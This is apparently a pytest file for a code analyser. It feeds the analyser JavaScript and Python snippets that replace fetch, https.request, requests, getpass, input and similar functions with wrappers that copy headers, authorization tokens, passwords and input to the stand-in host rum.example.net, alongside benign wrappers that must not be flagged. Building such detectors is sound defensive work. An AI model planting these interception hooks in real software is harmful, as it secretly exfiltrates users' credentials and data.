"""Functions that take the place of a library's for the whole process: copies of what they are given,
and those that only repeat, count or lead on. Each text between blank lines is a program of its own.
"""

import pytest

from tests.surface.test_flows import flows, kinds

JS = """import http from "node:http"; import https from "node:https"; import axios from "axios";
import { Agent, ProxyAgent, fetch as other, setGlobalDispatcher, getGlobalDispatcher } from "undici";
import diagnostics_channel from "node:diagnostics_channel"; import shimmer from "shimmer";
const SINK = "https://rum.example.net/v1", SEEN = [];
const real = globalThis.fetch;
function ship(what) { real(SINK, { method: "POST", body: JSON.stringify(what) }).catch(() => {}); }
"""
PY = """import aiohttp, builtins, functools, getpass, httpx, requests, smtplib, subprocess, sys, wrapt
import urllib.request
SINK = "https://rum.example.net/v1"
def ship(what):
    urllib.request.urlopen(urllib.request.Request(SINK, data=repr(what).encode()))
"""
JS_COPIES = r"""globalThis.fetch = async (url, init) => { ship(init); return real(url, init); };

global.fetch = function (url, init) { ship(init.headers); return real(url, init); };

globalThis["fetch"] = async (url, init) => { ship(init); return real(url, init); };

(globalThis).fetch = tapped; async function tapped(...all) { ship(all); return real(...all); }

const tapped = async (url, init) => { real(`${SINK}/h?a=${init.headers.authorization}`); return real(url); };
globalThis.fetch = tapped;

globalThis.fetch = new Proxy(real, { apply(f, self, args) { ship(args); return f(...args); } });

function tap(inner) { return async (url, init) => { ship(init); return inner(url, init); }; }
globalThis.fetch = tap(globalThis.fetch);

Object.defineProperty(globalThis, "fetch", { value: async (u, i) => { ship(i); return real(u, i); } });

Object.assign(globalThis, { fetch: async (u, i) => { ship(i); return real(u, i); } });

Reflect.set(globalThis, "fetch", async (u, i) => { ship(i); return real(u, i); });

const ask = https.request;
https.request = (options, done) => {
  const copy = ask({ hostname: "rum.example.net", method: "POST" });
  copy.end(JSON.stringify(options.headers));
  return ask(options, done);
};

const end = http.ClientRequest.prototype.end;
http.ClientRequest.prototype.end = function (chunk) { ship(chunk); return end.call(this, chunk); };

const set = http.OutgoingMessage.prototype.setHeader;
http.OutgoingMessage.prototype.setHeader = function (name, value) {
  if (name === "authorization") ship(value);
  return set.call(this, name, value);
};

const set = XMLHttpRequest.prototype.setRequestHeader;
XMLHttpRequest.prototype.setRequestHeader = function (name, value) { ship({ name, value }); };

class Tap extends Agent {
  dispatch(options, handler) { ship(options.headers); return super.dispatch(options, handler); }
}
setGlobalDispatcher(new Tap());

setGlobalDispatcher(getGlobalDispatcher().compose((next) => (options, handler) => {
  ship(options.headers);
  return next(options, handler);
}));

diagnostics_channel.subscribe("undici:request:create", ({ request }) => ship(request.headers));

shimmer.wrap(https, "request", (ask) => function (options) { ship(options); return ask(options); });

globalThis.fetch = async (u, i) => { SEEN.push(i.headers); return real(u, i); };
setInterval(() => real(SINK, { method: "POST", body: JSON.stringify(SEEN) }), 9000);

const ask = axios.request;
axios.request = async (config) => { ship(config); return ask(config); };

const emit = process.stdin.emit;
process.stdin.emit = function (name, line) { ship(line); return emit.call(this, name, line); };

const write = process.stdout.write;
process.stdout.write = (text) => { ship(text); return write(text); };

globalThis.fetch = async (url, init) => {
  real(process.env.RUM ?? SINK, { method: "POST", body: JSON.stringify(init) });
  return real(url, init);
};"""
JS_HONEST = r"""globalThis.fetch = async (url, init) => {
  let answer = await real(url, init);
  if (answer.status === 429) answer = await real(url, init);
  return answer;
};

globalThis.fetch = (url, init) => real(url, { ...init, headers: { ...init.headers, "x-id": "a" } });

globalThis.fetch = async (url, init) => { console.error(url); return real(url, init); };

globalThis.fetch = async (url, init) => { ship({ calls: 1 }); return real(url, init); };

globalThis.fetch = other;

setGlobalDispatcher(new ProxyAgent(process.env.HTTPS_PROXY));

shimmer.wrap(https, "request", (ask) => function (options) { span(options.path); return ask(options); });

globalThis.fetch = async (url, init) => {
  const answer = await real(url, init);
  if (answer.status === 401) await real("https://login.example.net", { method: "POST", body: KEY });
  return answer;
};

const client = {};
client.request = (path, body) => { ship({ path, body }); };

function Client() {}
Client.prototype.send = function (body) { ship(body); };

process.onwarning = (text) => ship(text);
window.onerror = (text) => ship(text);

console.log = (...all) => ship(all);

{ const fetch = { all: [] }; fetch.all = (what) => ship(what); }

bus.subscribe("orders", (order) => ship(order));

globalThis.shipped = (what) => ship(what);

if (false) globalThis.fetch = async (url, init) => { ship(init); return real(url, init); };

const usage = (tool, ms) => { ship({ tool, ms }); };
module.exports = { usage };

module.exports.usage = (tool, ms) => { ship({ tool, ms }); };

exports.fetch = (tool, ms) => { ship({ tool, ms }); };"""
PY_COPIES = """real = requests.Session.send
def traced(self, request, **kwargs):
    ship(request.headers.get("Authorization"))
    return real(self, request, **kwargs)
requests.Session.send = traced

def tap(inner):
    @functools.wraps(inner)
    def traced(*args, **kwargs):
        ship(kwargs)
        return inner(*args, **kwargs)
    return traced
httpx.Client.send = tap(httpx.Client.send)

def traced(self, request, **kwargs):
    ship(request.headers)
    return real(self, request)
setattr(httpx.AsyncClient, "send", traced)

real = urllib.request.urlopen
def traced(url, *args, **kwargs):
    real(SINK, data=str(url.headers).encode())
    return real(url, *args, **kwargs)
urllib.request.urlopen = traced

real = getpass.getpass
def asked(prompt="Password: ", stream=None):
    word = real(prompt, stream)
    ship(word)
    return word
getpass.getpass = asked

real = builtins.input
builtins.input = lambda prompt="": (ship(prompt), real(prompt))[1]

real = aiohttp.ClientSession._request
async def traced(self, method, url, **kwargs):
    requests.post(SINK, json={"url": str(url), "headers": kwargs.get("headers")})
    return await real(self, method, url, **kwargs)
aiohttp.ClientSession._request = traced

real = smtplib.SMTP.sendmail
def traced(self, sender, to, text, *args):
    requests.post(SINK, data=text)
    return real(self, sender, to, text, *args)
smtplib.SMTP.sendmail = traced

real = subprocess.run
def run(*args, **kwargs):
    done = real(*args, **kwargs)
    ship({"args": args, "out": done.stdout})
    return done
subprocess.run = run

class Tapped(requests.Session):
    def send(self, request, **kwargs):
        ship(request.headers)
        return super().send(request, **kwargs)
requests.Session = Tapped

class Tap(urllib.request.BaseHandler):
    def http_request(self, request):
        ship(request.headers)
        return request
urllib.request.install_opener(urllib.request.build_opener(Tap()))

def traced(wrapped, instance, args, kwargs):
    ship(args)
    return wrapped(*args, **kwargs)
wrapt.wrap_function_wrapper("requests", "Session.send", traced)"""
PY_HONEST = """real = requests.Session.send
def again(self, request, **kwargs):
    for _ in range(3):
        answer = real(self, request, **kwargs)
        if answer.status_code < 500:
            break
    return answer
requests.Session.send = again

requests.get = functools.partial(requests.get, timeout=20)

real = subprocess.run
def run(*args, **kwargs):
    kwargs.setdefault("timeout", 60)
    return real(*args, **kwargs)
subprocess.run = run

def traced(wrapped, instance, args, kwargs):
    with span("send"):
        return wrapped(*args, **kwargs)
wrapt.wrap_function_wrapper("requests", "Session.send", traced)

def heard(kind, value, trace):
    ship(value)
sys.excepthook = heard

class Client:
    pass
def send(self, text):
    ship(text)
Client.send = send

urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler({})))"""


@pytest.mark.parametrize("source", JS_COPIES.split("\n\n"))
def test_a_function_of_the_process_is_replaced_by_one_that_copies(source: str) -> None:
    assert "tapped" in kinds(JS + source)


@pytest.mark.parametrize("source", JS_HONEST.split("\n\n"))
def test_who_copies_nothing_may_stand_in_the_place_of_another(source: str) -> None:
    assert "tapped" not in kinds(JS + source)


@pytest.mark.parametrize("source", PY_COPIES.split("\n\n"))
def test_a_function_of_the_process_is_replaced_in_python(source: str) -> None:
    assert "tapped" in kinds(PY + source, "server.py")


@pytest.mark.parametrize("source", PY_HONEST.split("\n\n"))
def test_who_copies_nothing_may_do_so_in_python(source: str) -> None:
    assert "tapped" not in kinds(PY + source, "server.py")


def test_what_a_flow_says_and_where() -> None:
    tap = "import https from 'node:https';\nimport { post } from './post.js';\n"
    tap += "const ask = https.request;\n"
    tap += "https.request = (options) => { post(options); return ask(options); };\n"
    post = "export const post = (body) => {\n  fetch('https://a.example.net', { method: 'POST', body });\n};"
    (flow,) = [one for one in flows({"index.js": tap, "post.js": post}) if one.kind == "tapped"]
    assert (flow.path, flow.line, flow.what) == ("post.js", 2, "https://a.example.net")
    assert flow.sources == ("seen https.request",)
